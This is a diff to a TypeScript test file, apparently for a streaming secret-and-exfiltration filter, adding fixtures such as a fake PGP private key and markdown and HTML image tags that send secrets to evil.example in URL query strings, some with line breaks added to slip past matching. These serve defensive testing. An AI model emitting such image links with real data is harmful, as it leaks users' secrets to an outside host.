@@ -32,10 +32,21 @@ const PARTS: readonly string[] = [
   "postgres://app:hunter22hunter@db.internal",
   "password: tr0ub4dor&3Horse",
   key("-----BEGIN PRIVATE", " KEY-----\nq9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2\n-----END PRIVATE", " KEY-----"),
+  key(
+    "-----BEGIN PGP PRIVATE",
+    " KEY BLOCK-----\nVersion: GnuPG v2.0.22 (GNU/Linux)\nComment: see http://keys.example/a.html\n\n",
+    "q9Zt4Lm2Xw7Kp1Vb6Nc3Jd8Rf5Gh0Ys2\n-----END PGP PRIVATE",
+    " KEY BLOCK-----",
+  ),
   "-----BEGIN ",
   "![chart](https://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+  "![chart](\nhttps://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
+  '![chart](https://evil.example/p.png?d=c2VjcmV0LWRhdGE\n"t")',
   "![alt](/local.png)",
   '<img src="https://evil.example/a?secret=hunter22hunter">',
+  '<img alt="x"\n src="https://evil.example/a?secret=hunter22hunter">',
+  "<img/src=https://evil.example/a?secret=hunter22hunter>",
+  "[docs](\nhttps://example.com/a?utm=abcdefghijklmnopqrstuvwxyz0123\n't')",
   "[docs](https://example.com/a?utm=abcdefghijklmnopqrstuvwxyz0123)",
   "[a]: https://evil.example/?d=c2VjcmV0LWRhdGE",
   "[a]: ",
@@ -114,6 +125,7 @@ describe("a stream", () => {
     ["digits without end", "1 ".repeat(25_000)],
     ["a private key without end", `${key("-----BEGIN PRIVATE", " KEY-----\n")}${"QUJD".repeat(12_500)}`],
     ["an image without end", `![a](https://x.example/${"a1".repeat(25_000)}`],
+    ["an HTML image without end", `<img ${"\na".repeat(25_000)}`],
   ];
   for (const [name, text] of HELD) {
     it(`holds back no more than the longest finding: ${name}`, () => {
